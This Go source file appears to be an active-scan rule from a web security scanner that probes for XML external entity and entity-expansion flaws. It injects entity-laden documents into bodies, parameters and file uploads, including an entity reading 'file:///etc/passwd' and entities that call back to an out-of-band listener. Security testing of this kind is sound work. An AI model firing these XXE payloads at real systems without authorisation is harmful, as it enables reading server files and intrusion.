// Package xxe finds XML parsers that resolve entities of the document's own type definition
// (CWE-611).
//
// Entities that only contain text come first (internal, which also allow an expansion without
// limit, CWE-776). A file of the system is read only where those are expanded. With a listener,
// external entities and XInclude make the parser request its address, which also works where
// nothing is returned. XML is sent as the body, in parameters, as uploads of formats that contain
// XML (format.go), and in place of JSON (switched.go).
//
// Budget: maxPoints elements of a document, four requests each.
package xxe

import (
	"html"
	"slices"
	"strings"

	"merlon/internal/engine/dast/activescan"
	"merlon/internal/engine/dast/message"
	"merlon/internal/finding"
	"merlon/internal/lazyregexp"
	"merlon/internal/scan"
)

var (
	// external: the parser reads a file or an address.
	external = texts.Get("external")
	// internal: it expands entities of the document.
	internal = texts.Get("internal")
)

// Rule is the check.
var Rule = &activescan.Rule{ID: "xxe", FindingRules: []*finding.Rule{external, internal},
	OASTRules: []*finding.Rule{external},
	Profile:   scan.Safe, ScanOperation: scanOperation}

// maxPoints bounds the elements that are tried: one parser reads them all.
const maxPoints = 5

// passwd matches the line of root in /etc/passwd.
var passwd = lazyregexp.New(`root:[^:\n]{0,100}:0:0:`)

// scanOperation chooses by the kind of the body where documents are put.
func scanOperation(t *activescan.OperationScan) error {
	if t.Request.Body.Kind != message.XML {
		if err := scanForXInclude(t); err != nil {
			return err
		}
	}
	switch t.Request.Body.Kind {
	case message.XML:
		if len(documentTexts(t.Request)) == 0 {
			return typedDocument(t)
		}
	case message.Text:
		return typedDocument(t)
	case message.Multipart:
		return probeUploads(t)
	case message.JSON:
		if err := probeContentTypeSwitch(t); err != nil {
			return err
		}
		return probeValues(t)
	default:
		return probeValues(t)
	}
	for _, at := range documentTexts(t.Request) {
		if found, err := probePoint(t, place{at, func(entities, text string) *message.Request {
			return withEntities(t, t.Request, at, entities, text)
		}}); found || err != nil {
			return err
		}
	}
	return nil
}

// typedDocument replaces a body that should be a document and is none: script sends what a user
// types into a field, where the crawler types a word.
func typedDocument(t *activescan.OperationScan) error {
	if t.Request.Body.Kind != message.XML {
		first, err := t.FirstResponse()
		if err != nil || !first.MatchesBody(parsed) {
			return err
		}
	}
	at := message.Point{In: message.InXML, Name: "document", Value: string(t.Request.Body.Text)}
	_, err := probePoint(t, place{at, func(entities, text string) *message.Request {
		r := t.Request.Clone()
		r.Body.Text = []byte(newDocument(entities, text))
		return r
	}})
	return err
}

// newDocument returns a document with declarations of entities, and a text with entities in its
// root and in a child: applications read either.
func newDocument(entities, text string) string {
	return `<?xml version="1.0"?><!DOCTYPE d [` + entities + `]><d>` + text + `<a>` + text + `</a></d>`
}

// documentTexts returns the texts of a document that are tried. External entities are not allowed
// in attributes (XML 1.0, section 3.1).
func documentTexts(r *message.Request) []message.Point {
	out := slices.DeleteFunc(r.Points(), func(at message.Point) bool {
		return at.In != message.InXML || strings.Contains(at.Name, "@")
	})
	return out[:min(len(out), maxPoints)]
}

// probeValues tries the parameters whose value is a document of XML.
func probeValues(t *activescan.OperationScan) error {
	for _, at := range t.Request.Points() {
		if at.Names() {
			continue
		}
		if !strings.HasPrefix(strings.TrimSpace(at.Value), "<") {
			if found, err := probeByName(t, at); found || err != nil {
				return err
			}
			continue
		}
		held := &message.Request{Body: message.Body{Kind: message.XML, Text: []byte(at.Value)}}
		for _, element := range documentTexts(held) {
			if found, err := probePoint(t, place{at, func(entities, text string) *message.Request {
				return t.Request.With(at, string(withEntities(t, held, element, entities, text).Body.Text))
			}}); found || err != nil {
				return err
			}
		}
	}
	return nil
}

// speaks matches names of parameters that take an XML document.
var speaks = lazyregexp.New(`(?i)xml|soap`)

// parsed matches errors of XML parsers that got no document.
var parsed = lazyregexp.New(`(?i)start tag expected|simplexml_load_string|DOMDocument::loadXML|org\.xml\.sax|XMLSyntaxError|not well-formed \(invalid token\)|content is not allowed in prolog|data at the root level is invalid`)

// probeByName tries a parameter whose value is no document, but whose name, or whose answer,
// says that it should be one.
func probeByName(t *activescan.OperationScan, at message.Point) (bool, error) {
	if at.In != message.InQuery && at.In != message.InForm {
		return false, nil
	}
	if !speaks.MatchString(at.Name) {
		first, err := t.FirstResponse()
		if err != nil || !first.MatchesBody(parsed) {
			return false, err
		}
	}
	return probePoint(t, place{at, func(entities, text string) *message.Request {
		return t.Request.With(at, newDocument(entities, text))
	}})
}

// probeUploads tries the fields of a form that take a file, with documents of XML.
func probeUploads(t *activescan.OperationScan) error {
	if !t.Target.Profile.Allows(scan.Standard) {
		return nil // files stay where they are sent
	}
	for i, p := range t.Request.Body.Params {
		if p.File == "" {
			continue
		}
		file := message.Param{Name: p.Name, File: t.RandomLetters(12) + ".xml", Type: "text/xml"}
		at := message.Point{In: message.InMultipart, Name: p.Name, Index: i, Value: p.Value, Type: "file"}
		if found, err := probePoint(t, place{at, func(entities, text string) *message.Request {
			r := t.Request.Clone()
			r.Body.Params[i] = file
			r.Body.Params[i].Value = `<?xml version="1.0"?><!DOCTYPE d [` + entities + `]><d><a>` + text + `</a></d>`
			return r
		}}); found || err != nil {
			return err
		}
		for _, k := range kinds {
			if called, err := probeOAST(t, place{at, func(entities, text string) *message.Request {
				r := t.Request.Clone()
				r.Body.Params[i] = message.Param{Name: p.Name, File: t.RandomLetters(12) + k.ending, Type: k.media,
					Value: k.write(entities, text)}
				return r
			}}); called || err != nil {
				return err
			}
		}
	}
	return nil
}

// A place is a point of a request that takes a document.
type place struct {
	at message.Point
	// document returns the request with declarations of entities, and a text of entities.
	document func(entities, text string) *message.Request
}

// withEntities returns the request with declarations of entities, and a text of entities in
// the place of the element's.
func withEntities(t *activescan.OperationScan, of *message.Request, at message.Point, entities,
	text string) *message.Request {
	mark := t.RandomLetters(12)
	r := of.With(at, mark)
	body := strings.Replace(string(r.Body.Text), mark, text, 1)
	declaration := ""
	if end := strings.Index(body, "?>"); strings.HasPrefix(strings.TrimSpace(body), "<?xml") && end > 0 {
		declaration, body = body[:end+2], body[end+2:]
	}
	if entities != "" {
		declaration += "<!DOCTYPE " + strings.Split(at.Name, "/")[0] + " [" + entities + "]>"
	}
	r.Body.Text = []byte(declaration + body)
	return r
}

// probePoint puts documents at one place: text entities, the listener, XInclude, and last a file.
func probePoint(t *activescan.OperationScan, p place) (found bool, err error) {
	one, two := t.RandomLetters(8), t.RandomLetters(8)
	r := p.document(`<!ENTITY a "`+one+`"><!ENTITY b "`+two+`">`, "&a;&b;")
	resp, err := t.Send(r)
	if err != nil {
		return false, err
	}
	expanded := strings.Contains(resp.Text(), one+two)
	flaw := activescan.Alert{Rule: internal, Point: &p.at, Request: r, Payload: "&a;&b;",
		Responses:     []*message.Response{resp},
		ResponseNotes: []string{"two entities of the document"}}
	if expanded {
		flaw.Proof = []string{"Two entities are adjacent in the document; the response contains their values, joined."}
	}
	// A call is reported by itself when it arrives, as external.
	if called, err := probeOAST(t, p); called || err != nil {
		return called, err
	}
	if called, err := probeXInclude(t, p); called || err != nil {
		return called, err
	}
	if !expanded {
		return false, nil
	}
	if t.Target.Profile.Allows(scan.Standard) {
		r := p.document(`<!ENTITY f SYSTEM "file:///etc/passwd">`, "&f;")
		resp, err := t.Send(r)
		if err != nil {
			return false, err
		}
		if passwd.MatchString(html.UnescapeString(resp.Text())) {
			flaw.Rule, flaw.Request, flaw.Payload = external, r, `<!ENTITY f SYSTEM "file:///etc/passwd">`
			flaw.Responses, flaw.ResponseNotes = append(flaw.Responses, resp),
				append(flaw.ResponseNotes, "an entity that is a file of "+
					"the system")
			flaw.Proof = append(flaw.Proof, "The response to an entity for the file /etc/passwd contains its content.")
		}
	}
	t.RaiseAlert(flaw)
	return true, nil
}

// probeOAST makes the parser ask our listener: with an entity of the text, and with one of the
// type definition, which is read even where the text's are not expanded.
func probeOAST(t *activescan.OperationScan, p place) (bool, error) {
	return t.SendOAST(func(bait func() activescan.OASTPayload) (*message.Request, []activescan.ExpectedInteraction) {
		b := []activescan.OASTPayload{bait(), bait()}
		general, parameter := `<!ENTITY c SYSTEM "`+b[0].URL+`">`, `<!ENTITY % d SYSTEM "`+b[1].URL+`">`
		hook := activescan.ExpectedInteraction{Rule: external, Point: &p.at, RequiresHTTP: true,
			Proof: "An entity of the document is at an " +
				"address of a listener; the parser read it."}
		one, two := hook, hook
		one.OASTPayload, one.Payload, two.OASTPayload, two.Payload = b[0], general, b[1], parameter
		return p.document(general+parameter+"%d;", "&c;"), []activescan.ExpectedInteraction{two, one}
	})
}
